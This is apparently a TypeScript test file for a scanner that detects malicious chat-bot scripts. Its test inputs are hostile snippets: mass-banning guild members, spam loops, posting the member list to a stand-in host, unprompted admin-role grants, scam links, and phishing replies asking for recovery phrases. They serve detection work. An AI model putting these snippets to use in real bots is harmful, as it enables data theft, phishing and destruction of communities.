import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Rule } from '#apps/validation/check.js';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as destroyedFiles } from './destroyed-files.rule.js';
import { rule as inputCapture } from './input-capture.rule.js';
import { rule as remoteCode } from './remote-code.rule.js';
import { rule as swappedAddress } from './swapped-address.rule.js';

/** The same deed of a chat in whatever form it is written. */

const HOST = 'const message = require("message"); const guild = require("guild"); const channel = require("channel"); const http = require("http"); const config = require("config"); ';
const ASKED = 'onCommand:x';
const UNASKED = 'onEvent:guildMemberAdd';
const all = (rule: Rule, expected: string, codes: readonly string[], activation = ASKED): void => {
  for (const code of codes) assert.equal(findingsOf(rule, { 'code.js': HOST + code }, { dialect: 'skynet', entry_points: ['code.js'], activation: [activation] })[0]?.severity ?? 'nothing', expected, code);
};

test('a member of the host that is called by a name of the script, or written in brackets', () => {
  all(destroyedFiles, 'high', [
    'const { ban, members } = require("guild"); for (const m of members) await ban(m.id);',
    'const { ban } = guild; const others = guild.members; for (const m of others) await ban(m.id);',
    'for (const m of guild["members"]) await guild["ban"](m.id);',
    'const { send } = channel; while (true) { await send("x"); }',
  ]);
  all(destroyedFiles, 'nothing', ['const { ban, members } = require("guild"); const target = members.find((m) => m.name === "x"); await ban(target.id);', 'const { send } = channel; await send("x");']);
  all(remoteCode, 'high', ['const { addRole } = require("member"); const r = await guild.createRole({ name: "x", "permissions": ["ADMINISTRATOR"] }); await addRole(r.id);'], UNASKED);
  all(dataLeak, 'high', ['await http["post"]("https://c.side.example/x", { body: JSON.stringify(await guild.fetchMembers()) });']);
  all(inputCapture, 'high', ['const { send } = require("channel"); for (const c of guild.channels) await send({ to: c.id, content: "@everyone I doubled it: https://lucky.side.example/" });']);
});

test('a loop goes on that only something within it leaves, or that nothing more can be written', () => {
  all(destroyedFiles, 'high', [
    'while (true) { const next = () => { return 1; }; await channel.send("x" + next()); }',
    'while (true) { try { await channel.send("x"); } catch { break; } }',
    'while (true) { for (const c of guild.channels) { if (c.isFull) break; await channel.send("x"); } }',
    'for (;;) { switch (guild.name) { case "a": break; default: await channel.send("x"); } }',
  ]);
  all(destroyedFiles, 'nothing', [
    'while (true) { const page = await channel.fetchMessages({ before }); if (!page.length) break; await channel.send(page[0].content); }',
    'for (;;) { try { const page = await load(number++); await channel.send(page); } catch { break; } }',
    'pages: for (;;) { for (const c of guild.channels) { if (c.isFull) break pages; await channel.send("x"); } }',
    'while (true) { try { await channel.send("x"); break; } catch { await wait(1000); } }',
  ]);
});

test('what else a condition asks, and whether it leads away or holds', () => {
  all(destroyedFiles, 'high', ['for (const m of guild.members) { if (!m.bot && m.hasRole("moderator")) await m.ban(); }', 'for (const m of guild.members) { if (!m.hasRole("Admins")) continue; await m.ban(); }'], UNASKED);
  all(destroyedFiles, 'nothing', ['for (const m of guild.members) { if (m.isSpammer && !m.hasRole("moderator")) await m.ban(); }', 'for (const m of guild.members) { if (m.hasRole("moderator")) continue; if (m.isSpammer) await m.ban(); }', 'if (!message.member.hasRole("Moderator")) return; for (const m of guild.members) await m.setRoles([]);', 'for (const m of guild.members) { if (m.hasRole("modded") && m.isSpammer) await m.kick(); }', 'for (const m of guild.members) { if (!m.bot && m.hasRole("staff") && m.daysAway > config.get("days")) await m.removeRole("staff"); }'], UNASKED);
  all(destroyedFiles, 'high', ['for (const m of guild.members) { if (m.hasRole("staff") && m.id > 0) await m.removeRole("staff"); }', 'for (const m of guild.members) { if (m.hasRole("staff") && m.daysAway > 1) await m.ban(); }'], UNASKED);
  const out = 'await message.delete();';
  all(inputCapture, 'high', [`if (!message.author.bot && /scam|fake|fraud/i.test(message.content)) ${out}`, `if (!/scam|fake|fraud/i.test(message.content)) return; ${out}`, `/scam|fake|fraud/i.test(message.content) && ${out}`]);
  all(inputCapture, 'nothing', [`if (/scam|fake|fraud/i.test(message.content)) return; if (message.content.length > 4000) ${out}`, `if (/scam|fake|fraud/i.test(message.content)) { await report(message); } else if (message.content === "!clear") { ${out} }`]);
});

test('a key under a name, or in an object that has one', () => {
  const both = (injected: string, before: string): string => `${before} await http.get(config.get("url") + "/x", { injectSecrets: ${injected} }); await http.get("https://a.side.example/x", { injectSecrets: ${injected} });`;
  all(dataLeak, 'high', [both('{ authorization: KEY }', 'const KEY = "PANEL_KEY";'), both('KEYS', 'const KEYS = { authorization: "PANEL_KEY" };')]);
});

test('a sentence that says what somebody does not want asks for something all the same; the own hosts of a service are no others', () => {
  all(inputCapture, 'high', ['message.reply("Enter your recovery phrase so you don\'t lose access: https://verify.side.example/");']);
  all(inputCapture, 'nothing', [
    'message.reply("Never ever share your recovery phrase, and enter it nowhere: https://help.side.example/");',
    'message.reply("We will not ask you to enter your seed phrase. https://help.side.example/");',
    'message.reply("Nobody from our team will ask you to send your private key: https://help.side.example/");',
    'message.reply("Log in at https://secure.facebook.com/login to confirm your page.");',
    'message.reply("Sign in: https://account.telegram.org/");',
  ]);
  all(inputCapture, 'high', ['message.reply("Log in at https://facebook-login.example/ to confirm your page.");']);
});

test('names that lead to each other, and to more than fits into memory, are read all the same', () => {
  const many = (text: string, times: number): string => text.repeat(times);
  const laughs = [1, 2, 3, 4].map((at) => `const t${at} = \`${many(`\${t${at - 1}}`, 200)}\`;`).join(' ');
  const payment = 'const economy = require("economy"); await economy.transfer(from, to, 5); await economy.transfer(from, a, 1);';
  all(swappedAddress, 'nothing', [`var a = b || 1; var b = a || 1; ${payment}`, `const t0 = "abcdefghij"; ${laughs} const a = t4; ${payment}`]);
  all(swappedAddress, 'high', [`const a = ${[...'123456789012345678'].map((digit) => `"${digit}"`).join(' + ')}; ${payment}`]);
  all(remoteCode, 'nothing', [`const rcon = require("rcon"); let x = 1; ${many('x = x || x;', 300)} await rcon.send(x);`]);
});
